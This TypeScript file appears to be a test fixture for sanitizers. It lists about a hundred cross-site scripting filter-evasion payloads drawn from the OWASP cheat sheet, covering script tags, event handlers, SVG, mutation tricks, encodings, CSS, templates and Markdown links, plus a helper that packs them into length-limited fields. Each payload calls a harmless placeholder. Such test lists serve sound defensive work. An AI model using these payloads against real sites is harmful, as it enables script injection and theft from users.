/**
 * Words that run as a program where they are taken for markup, after the families of the OWASP XSS filter evasion cheat sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html). Each calls `xss` when it runs.
 */
export const payloads: readonly string[] = [
  // Scripts.
  "<script>xss()</script>",
  "</script><script>xss()</script>",
  "<ScRiPt >xss()</ScRiPt>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<script src=data:text/javascript,xss()></script>",
  "<script/x>xss()</script\t\n>",
  "<<script>xss();//<</script>",
  "<script type=module>xss()</script>",
  "-->'\"/></sCript><script>xss()</script>",
  // Handlers of events.
  "<img src=x onerror=xss()>",
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror='xss()'>",
  "<img src=x:x onerror\n=\nxss()>",
  '<IMG SRC=/ ONERROR="xss()"></img>',
  "<body onload=xss()>",
  "<input autofocus onfocus=xss()>",
  "<details open ontoggle=xss()><summary>x</summary></details>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<marquee onstart=xss()>x</marquee>",
  "<div onpointerover=xss() onmouseover=xss()>over</div>",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=xss()>x</b>",
  '" autofocus onfocus=xss() x="',
  "' onmouseover='xss()",
  "` onmouseover=`xss()",
  // SVG and MathML.
  "<svg onload=xss()>",
  "<svg/onload=xss()//",
  "<svg><script>xss()</script></svg>",
  "<svg><script href=data:text/javascript,xss() /></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:xss()><text y=20>x</text></a></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=xss()>#x">',
  "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></foreignObject></svg>",
  "<math href=javascript:xss()>x</math>",
  // Frames and what else loads documents.
  "<iframe src=javascript:xss()></iframe>",
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  "<object data=javascript:xss()></object>",
  "<embed src=javascript:xss()>",
  "<base href=javascript:xss()//>",
  "<meta http-equiv=refresh content=0;url=javascript:xss()>",
  "<link rel=stylesheet href=data:text/css,*{}>",
  "<form action=javascript:xss()><button>x</button></form>",
  "<button form=x formaction=javascript:xss()>x</button>",
  // Mutation: what a parser mends becomes another thing when it is read again.
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
  "<template><img src=x onerror=xss()></template>",
  '<xmp><p title="</xmp><img src=x onerror=xss()>">',
  '<textarea><img title="</textarea><img src=x onerror=xss()>">',
  "<!--><img src=x onerror=xss()>-->",
  "<![CDATA[><img src=x onerror=xss()>]]>",
  // Encodings.
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;img src=x onerror=xss()&#62;",
  "&#x3C;img src=x onerror=xss()&#x3E;",
  "%3Cscript%3Exss()%3C/script%3E",
  "\\u003cimg src=x onerror=xss()\\u003e",
  "\\x3cimg src=x onerror=xss()\\x3e",
  "＜script＞xss()＜/script＞",
  "\u202e<img src=x onerror=xss()>\u202c",
  "<\u200bscript>xss()</script>",
  "+ADw-script+AD4-xss()+ADw-/script+AD4-",
  "<img src=x onerror=&#120;&#115;&#115;&#40;&#41;>",
  // Styles.
  "<style>*{background:url(javascript:xss())}</style>",
  '<div style="background:url(javascript:xss());width:expression(xss())">x</div>',
  "<style>@import'javascript:xss()';</style>",
  "red;background:url(javascript:xss())",
  "}</style><script>xss()</script>",
  // Templates.
  "{{constructor.constructor('xss()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for other people's templates
  "${xss()} #{xss()} <%= xss() %>",
  "{{7*7}}[[xss()]]",
  "';xss();'",
  '";xss();//',
  '\\";xss();//',
  // Links in Markdown.
  "[a](javascript:xss())",
  "[a](JaVaScRiPt:xss%28%29)",
  "[a]( javascript:xss())",
  "[a](java\tscript:xss())",
  "[a](\u0001javascript:xss())",
  "[a](javascript&colon;xss())",
  "[a](&#106;avascript:xss())",
  "[a](javascript://%0axss())",
  "[a](data:text/html,<script>xss()</script>)",
  "[a](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
  "[a](vbscript:xss())",
  "[a](blob:xss())",
  '[a](https://example.test" onmouseover="xss())',
  "[a](https://example.test 'x' onmouseover=xss())",
  "[a](<javascript:xss()>)",
  "[<img src=x onerror=xss()>](https://example.test)",
  "![a](javascript:xss())",
  '![a](x" onerror="xss())',
  "![](x#'onerror='xss())",
  "<javascript:xss()>",
  "[a][1]\n\n[1]: javascript:xss()",
  "javascript:xss()//https://example.test",
  'https://example.test/"onmouseover="xss()',
  "`<img src=x onerror=xss()>`",
  "**<b onclick=xss()>x</b>**",
  "```\n</code></pre><img src=x onerror=xss()>\n```",
  "- <img src=x onerror=xss()>\n> <svg onload=xss()>",
];

/** All payloads, packed into fields that hold at most so many characters. */
export function packed(max: number): string[] {
  const fields: string[] = [];
  for (const payload of payloads.filter(({ length }) => length <= max)) {
    const last = fields.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= max) fields[fields.length - 1] = `${last} ${payload}`;
    else fields.push(payload);
  }
  return fields;
}
